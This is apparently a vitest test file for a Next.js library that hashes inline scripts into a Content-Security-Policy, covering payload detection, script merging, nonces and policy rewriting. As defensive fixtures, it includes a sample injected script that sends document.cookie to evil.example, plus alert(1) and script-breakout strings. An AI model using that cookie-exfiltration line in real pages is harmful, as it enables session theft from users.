// Hashing a document's inline scripts for its Content-Security-Policy (lib/csp-inline.mjs): which scripts get
// a hash, and how the hashes go into the policy the single builder wrote.
import { createHash } from "node:crypto";
import { runInNewContext } from "node:vm";

import { describe, expect, it } from "vitest";

import { contentSecurityPolicy, scriptHash } from "@/lib/content-security-policy";
import {
  allowsInlineScripts,
  cspHash,
  frameworkRuntimeScripts,
  inlineScripts,
  isInstructionCall,
  isPayloadScript,
  MERGE_ABOVE_HASHES,
  policyNonces,
  trustedInlineScripts,
  withScriptHashes,
} from "@/lib/csp-inline.mjs";

const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const THEME = '((a,b)=>{document.documentElement.classList.add(b)})("class","dark")';
const RX = "$RX=function(b,c){var a=document.getElementById(b);a&&(a.dataset.dgst=c)};";
const payload = (text: string) => `self.__next_f.push([1,${JSON.stringify(text).replace(/</g, "\\u003c")}])`;
const scriptSrc = (policy: string) =>
  policy
    .split("; ")
    .find((directive) => directive.startsWith("script-src "))!
    .split(" ")
    .slice(1);

describe("inline scripts of a document", () => {
  it("finds the inline scripts and skips src scripts, nonce'd scripts, JSON-LD and empty tags", () => {
    const html = [
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      '<script nonce="abc">self.__next_f.push([0])</script>',
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
      "<script></script>",
      `<script>${THEME}</script>`,
      `<script id="consent-defaults">window.dataLayer=[]</script>`,
      '<script type="module">go()</script>',
    ].join("");
    expect(inlineScripts(html)).toEqual([THEME, "window.dataLayer=[]", "go()"]);
  });

  it("hashes a script's text as the browser does (SHA-256, base64, line breaks as the parser leaves them)", () => {
    expect(cspHash("alert(1)")).toBe(sha256("alert(1)"));
    expect(cspHash(THEME)).toBe(scriptHash(THEME));
    expect(inlineScripts("<script>a()\r\nb()\rc()</script>")).toEqual(["a()\nb()\nc()"]);
  });

  it("recognises the RSC payload pushes as data, and nothing that runs code beside them", () => {
    expect(isPayloadScript(payload('0:{"P":null,"b":"x"}\n'))).toBe(true);
    expect(isPayloadScript(payload("</script><script>alert(1)</script>"))).toBe(true); // escaped, a string only
    expect(isPayloadScript("self.__next_f.push([2,null])")).toBe(true);
    expect(isPayloadScript('self.__next_f.push([1,"x"]);alert(1)')).toBe(false);
    expect(isPayloadScript('self.__next_f.push([1,"x"+alert(1)])')).toBe(false);
    // An escaped quote stays inside the string; an escaped backslash before the quote ends it.
    expect(isPayloadScript('self.__next_f.push([1,"x\\"]);alert(1);//"])')).toBe(true);
    expect(isPayloadScript('self.__next_f.push([1,"x\\\\"]);alert(1);//"])')).toBe(false);
    expect(isPayloadScript('self.__next_f.push([1,"line\nbreak"])')).toBe(false);
    expect(isPayloadScript("(self.__next_f=self.__next_f||[]).push([0])")).toBe(false); // a known script, not data
    expect(isInstructionCall('$RC("B:0","S:0")')).toBe(true);
    expect(isInstructionCall('$RX("B:1",null,"message")')).toBe(true);
    expect(isInstructionCall('$RC("B:0",alert(1))')).toBe(false);
    expect(isInstructionCall('$RC("B:0");alert(1)')).toBe(false);
  });

  it("trusts payload data, the build's known scripts and React's instructions; anything else gets no hash", () => {
    const injected = "fetch('https://evil.example/'+document.cookie)";
    const known = new Set([cspHash(THEME), cspHash(RX)]);
    const html = [
      `<script>${THEME}</script>`,
      `<script>${payload("1:data")}</script>`,
      `<script>${payload("1:data")}</script>`,
      `<script>${RX}$RX("B:0","digest")</script>`,
      `<script>${injected}</script>`,
      `<script>alert(1);$RX("B:0","digest")</script>`,
      '<script type="application/ld+json">{"a":1}</script>',
    ].join("");
    const { hashes, untrusted } = trustedInlineScripts(html, known);
    expect(hashes.sort()).toEqual(
      [cspHash(THEME), cspHash(payload("1:data")), cspHash(`${RX}$RX("B:0","digest")`)].sort(),
    );
    expect(hashes).not.toContain(cspHash(injected));
    expect(untrusted).toBe(2);
  });
});

describe("adjacent payload scripts, merged into one", () => {
  const chunk = (n: number) => payload(`${n}:["$","div",null,{"children":"chunk ${n}"}]\n`);
  const tail = (texts: string[]) => texts.map((text) => `<script>${text}</script>`).join("");
  /** The RSC payload the browser would hand the client router after running the document's inline scripts in order. */
  const pushed = (html: string) => {
    const context = {
      self: { __next_f: [] as unknown[] },
      $RC: (...args: unknown[]) => context.self.__next_f.push(["$RC", ...args]),
    };
    for (const script of inlineScripts(html)) runInNewContext(script, context);
    return context.self.__next_f;
  };

  it(
    "makes one script of a run of pushes and instruction calls, hashed as one, that pushes the same data in the " +
      "same order",
    () => {
      const texts = ["self.__next_f.push([0])", chunk(1), '$RC("B:0","S:0")', chunk(2), chunk(3)];
      const html = `<body><main>x</main>${tail(texts)}</body>`;
      const result = trustedInlineScripts(html, new Set(), [], { mergeAbove: 0 });
      const merged = texts.join(";");
      expect(result.html).toBe(`<body><main>x</main><script>${merged}</script></body>`);
      expect(result.hashes).toEqual([cspHash(merged)]);
      expect(result.untrusted).toBe(0);
      expect(pushed(result.html)).toEqual(pushed(html));
      expect(pushed(result.html)).toHaveLength(5);
    },
  );

  it("merges only scripts that touch: markup, another script or attributes between them end the run", () => {
    const known = new Set([cspHash(THEME)]);
    const html = [
      tail([chunk(1), chunk(2)]),
      '<div hidden id="S:1">late</div>',
      tail([chunk(3), chunk(4)]),
      tail([THEME]),
      tail([chunk(5)]),
      `<script id="x">${chunk(6)}</script>`,
      tail([chunk(7)]),
    ].join("");
    const result = trustedInlineScripts(html, known, [], { mergeAbove: 0 });
    expect(inlineScripts(result.html)).toEqual([
      `${chunk(1)};${chunk(2)}`,
      `${chunk(3)};${chunk(4)}`,
      THEME,
      chunk(5),
      chunk(6),
      chunk(7),
    ]);
    expect(result.html).toContain('<div hidden id="S:1">late</div>');
    expect(result.hashes).toEqual(inlineScripts(result.html).map(cspHash));
  });

  it("never merges an untrusted script into a run: it ends the run and stays without a hash", () => {
    const injected = "fetch('https://evil.example/'+document.cookie)";
    const result = trustedInlineScripts(tail([chunk(1), injected, chunk(2)]), new Set(), [], { mergeAbove: 0 });
    expect(inlineScripts(result.html)).toEqual([chunk(1), injected, chunk(2)]);
    expect(result.hashes).toEqual([cspHash(chunk(1)), cspHash(chunk(2))]);
    expect(result.untrusted).toBe(1);
  });

  it("leaves a document with nothing to merge as the same string", () => {
    const html = `<p>a</p>${tail([chunk(1)])}<p>b</p>${tail([chunk(2)])}`;
    expect(trustedInlineScripts(html, new Set(), [], { mergeAbove: 0 }).html).toBe(html);
  });

  it(
    "merges only a document whose policy would name more than 16 scripts: a short one keeps its bytes (no " +
      "compressing again)",
    () => {
      const numbers = Array.from({ length: MERGE_ABOVE_HASHES + 1 }, (_, index) => index + 1);
      const short = `<main>x</main>${tail(numbers.slice(1).map(chunk))}`;
      const long = `<main>x</main>${tail(numbers.map(chunk))}`;
      expect(MERGE_ABOVE_HASHES).toBe(16);
      expect(trustedInlineScripts(short, new Set())).toEqual({
        html: short,
        hashes: numbers.slice(1).map((n) => cspHash(chunk(n))),
        untrusted: 0,
      });
      const merged = trustedInlineScripts(long, new Set());
      expect(inlineScripts(merged.html)).toEqual([numbers.map(chunk).join(";")]);
      expect(merged.hashes).toHaveLength(1);
    },
  );

  it("keeps the bytes when merging would remove under a quarter of the hashes (calls between pieces of markup)", () => {
    const numbers = Array.from({ length: 20 }, (_, index) => index + 1);
    // A streamed page: each instruction call after its own segment; only the last two scripts touch.
    const calls = numbers.map((n) => `<div hidden id="S:${n}">${n}</div><script>$RS("S:${n}","P:${n}")</script>`);
    const html = `${calls.join("")}<script>${chunk(21)}</script>`;
    const result = trustedInlineScripts(html, new Set());
    expect(result.html).toBe(html);
    expect(result.hashes).toHaveLength(21);
  });
});

describe("scripts carrying a nonce", () => {
  const chunk = (n: number) => payload(`${n}:"chunk ${n}"\n`);

  it(
    "run by the policy's nonce are left out; a stale nonce (a cached not-found page rendered for another request) " +
      "is hashed like none",
    () => {
      const stale = [1, 2, 3].map((n) => `<script nonce="c3RhbGU=">${chunk(n)}</script>`).join("");
      const html = `<script nonce="Y3VycmVudA==">${THEME}</script><main>x</main>${stale}`;
      expect(inlineScripts(html)).toEqual([]);
      expect(inlineScripts(html, ["Y3VycmVudA=="])).toEqual([chunk(1), chunk(2), chunk(3)]);
      const result = trustedInlineScripts(html, new Set(), [], { nonces: ["Y3VycmVudA=="], mergeAbove: 0 });
      // Merged into one script without the stale nonce, allowed by its hash.
      expect(result.html).toBe(
        `<script nonce="Y3VycmVudA==">${THEME}</script><main>x</main>` +
          `<script>${[1, 2, 3].map(chunk).join(";")}</script>`,
      );
      expect(result.hashes).toEqual([cspHash([1, 2, 3].map(chunk).join(";"))]);
      // Under the public level (no nonce at all) every one of them needs its hash.
      expect(trustedInlineScripts(html, new Set([cspHash(THEME)])).hashes).toEqual([
        cspHash(THEME),
        ...[1, 2, 3].map((n) => cspHash(chunk(n))),
      ]);
    },
  );

  it("the nonces a policy allows", () => {
    expect(policyNonces("default-src 'self'; script-src 'self' 'nonce-bm9uY2U=' 'sha256-YQ=='")).toEqual(["bm9uY2U="]);
    expect(policyNonces(contentSecurityPolicy({ isDev: false, adsAllowed: true }))).toEqual([]);
  });
});

describe("React's runtime in front of its first instruction", () => {
  const RB = "$RB=[];";
  const RC = "$RC=function(a,b){a=document.getElementById(a);b=document.getElementById(b);a.replaceWith(b)};";
  const call = '$RC("B:0","S:0")';

  it("is trusted when the text before the call is React's own definitions, one after another", () => {
    const html = `<script>${RB}${RC}${call}</script><script>${RC}${call}</script>`;
    const { hashes, untrusted } = trustedInlineScripts(html, new Set(), [RC, RB]);
    expect(hashes).toEqual([cspHash(`${RB}${RC}${call}`), cspHash(`${RC}${call}`)]);
    expect(untrusted).toBe(0);
  });

  it("is refused when anything else comes before or between the definitions", () => {
    for (const script of [
      `alert(1);${RB}${RC}${call}`,
      `${RB}alert(1);${RC}${call}`,
      `${RB}${RC}alert(1);${call}`,
      `${RB}${RC}`,
    ]) {
      const html = `<script>${script}</script>`;
      expect(trustedInlineScripts(html, new Set(), [RB, RC]), script).toEqual({ html, hashes: [], untrusted: 1 });
    }
    // Without the definitions given, the same script is refused too.
    expect(trustedInlineScripts(`<script>${RB}${RC}${call}</script>`, new Set()).untrusted).toBe(1);
  });
});

describe("the framework's run-time scripts, from its compiled renderer", () => {
  it("reads React's instruction functions (escapes decoded, trailing call start cut) and Next's fixed snippets", () => {
    const source = [
      `var a=s('$RS=function(a,b){a.x="\\x3c"};$RS("'),b=s("$RX=function(b){b.y='z'};"),c="$RB=[];$RC=function(){}";`,
      'function iT(e){return`<script${e?` nonce="${q(e)}"`:""}>document.head.appendChild(el)</script>`}',
      'var notOurs="$notADefinition",alsoNot="<script>x</script>";',
    ].join("\n");
    const { definitions, scripts } = frameworkRuntimeScripts(source);
    expect(definitions).toEqual([
      '$RS=function(a,b){a.x="<"};',
      "$RX=function(b){b.y='z'};",
      "$RB=[];$RC=function(){}",
    ]);
    expect(scripts).toEqual(["document.head.appendChild(el)"]);
  });
});

describe("hashes in the policy", () => {
  const staticPolicy = contentSecurityPolicy({ isDev: false, adsAllowed: false });
  const withAds = contentSecurityPolicy({ isDev: false, adsAllowed: true });

  it("replace 'unsafe-inline' in script-src and leave every other directive as the builder wrote it", () => {
    expect(allowsInlineScripts(staticPolicy)).toBe(true);
    const rewritten = withScriptHashes(staticPolicy, [cspHash("a()"), cspHash("b()")]);
    expect(scriptSrc(rewritten)).toEqual(["'self'", cspHash("a()"), cspHash("b()")]);
    expect(allowsInlineScripts(rewritten)).toBe(false);
    expect(rewritten.split("; ").filter((d) => !d.startsWith("script-src "))).toEqual(
      staticPolicy.split("; ").filter((d) => !d.startsWith("script-src ")),
    );
    expect(rewritten).toContain("style-src 'self' 'unsafe-inline'");
  });

  it("keep the ad network's hosts exactly when the builder put them in (consent), and never add them", () => {
    expect(scriptSrc(withScriptHashes(withAds, [cspHash("a()")]))).toEqual([
      "'self'",
      cspHash("a()"),
      "https://pagead2.googlesyndication.com",
      "https://tpc.googlesyndication.com",
    ]);
    expect(withScriptHashes(staticPolicy, [cspHash("a()")])).not.toMatch(/googlesyndication|doubleclick/);
  });

  it("with no trusted script, leave script-src at 'self' only", () => {
    expect(scriptSrc(withScriptHashes(staticPolicy, []))).toEqual(["'self'"]);
  });

  it("join a nonce-based policy's sources without duplicates", () => {
    const strict = `default-src 'self'; script-src 'self' 'nonce-bm9uY2U=' ${cspHash("a()")}; object-src 'none'`;
    const sources = scriptSrc(withScriptHashes(strict, [cspHash("a()"), cspHash("b()")]));
    expect(sources[0]).toBe("'self'");
    expect(sources).toContain("'nonce-bm9uY2U='");
    expect(sources.filter((source) => source === cspHash("a()"))).toHaveLength(1);
    expect(sources).toContain(cspHash("b()"));
    expect(sources).not.toContain("'unsafe-inline'");
  });
});
